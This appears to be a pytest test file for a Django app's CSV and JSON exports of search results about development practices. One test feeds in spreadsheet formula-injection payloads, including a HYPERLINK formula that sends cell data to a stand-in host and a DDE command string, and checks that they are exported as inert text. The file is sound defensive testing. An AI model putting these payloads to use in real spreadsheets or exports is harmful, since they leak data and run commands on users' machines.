"""Exports give exactly the current result set, all pages."""

import csv
import io
import json

import pytest
from django.http import QueryDict

from practices import search
from practices.models import Practice
from practices.search.index import current_index
from tests.factories import make_practice


@pytest.fixture
def data(report_practices):
    pass


def read(response):
    return b"".join(response.streaming_content).decode("utf-8")


def expected_titles(query_string):
    index = current_index()
    result = search.run(search.parse(QueryDict(query_string), index), index)
    by_id = dict(Practice.objects.values_list("id", "title"))
    return [by_id[int(i)] for i in result.ordered_ids]


def test_csv_opens_cleanly_in_a_spreadsheet(client, data):
    response = client.get("/practices/?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = read(response)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 32  # every page, one row per practice


def test_csv_joins_multiple_values_with_semicolons(client, data):
    rows = list(
        csv.DictReader(io.StringIO(read(client.get("/practices/?format=csv")).lstrip("\ufeff")))
    )
    asean = next(row for row in rows if row["title"] == "ASEAN TRIANGLE project")
    # Countries by name: Cambodia, Indonesia, Lao PDR, Myanmar, the Philippines …
    assert asean["lead_countries"].split("; ") == ["KH", "ID", "LA", "MM", "PH", "TH", "VN"]
    assert asean["sdg_targets"].split("; ") == ["8.8", "10.7"]


def test_json_lists_multiple_values_in_the_same_order(client, data):
    payload = json.loads(read(client.get("/practices/?format=json")))
    asean = next(p for p in payload["practices"] if p["title"] == "ASEAN TRIANGLE project")
    assert asean["lead_countries"] == ["KH", "ID", "LA", "MM", "PH", "TH", "VN"]


@pytest.mark.parametrize(
    "query_string", ["theme=labour-migration", "q=remittance", "goal=3&sort=title"]
)
def test_exports_equal_the_on_screen_results(client, data, query_string):
    titles = expected_titles(query_string)
    text = read(client.get(f"/practices/?{query_string}&format=csv")).lstrip("\ufeff")
    assert [row["title"] for row in csv.DictReader(io.StringIO(text))] == titles
    payload = json.loads(read(client.get(f"/practices/?{query_string}&format=json")))
    assert payload["count"] == len(titles)
    assert [p["title"] for p in payload["practices"]] == titles


def test_an_unknown_format_shows_the_page(client, data):
    response = client.get("/practices/?format=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
)
def test_csv_cells_never_run_as_formulas(client, reference_data, title):
    """A practice titled like a formula is exported as text: a spreadsheet does not run it."""
    make_practice(title=title, summary="=1+1")
    rows = list(
        csv.DictReader(io.StringIO(read(client.get("/practices/?format=csv")).lstrip("\ufeff")))
    )
    assert [(row["title"], row["summary"]) for row in rows] == [("'" + title, "'=1+1")]


def test_csv_keeps_ordinary_text_as_it_is(client, reference_data):
    make_practice(title="Diaspora bonds – a review", summary="Bonds sold to the diaspora.")
    rows = list(
        csv.DictReader(io.StringIO(read(client.get("/practices/?format=csv")).lstrip("\ufeff")))
    )
    assert [(row["title"], row["summary"]) for row in rows] == [
        ("Diaspora bonds – a review", "Bonds sold to the diaspora.")
    ]


def test_json_keeps_the_text_exactly(client, reference_data):
    make_practice(title="=HYPERLINK(1)")
    payload = json.loads(read(client.get("/practices/?format=json")))
    assert [p["title"] for p in payload["practices"]] == ["=HYPERLINK(1)"]
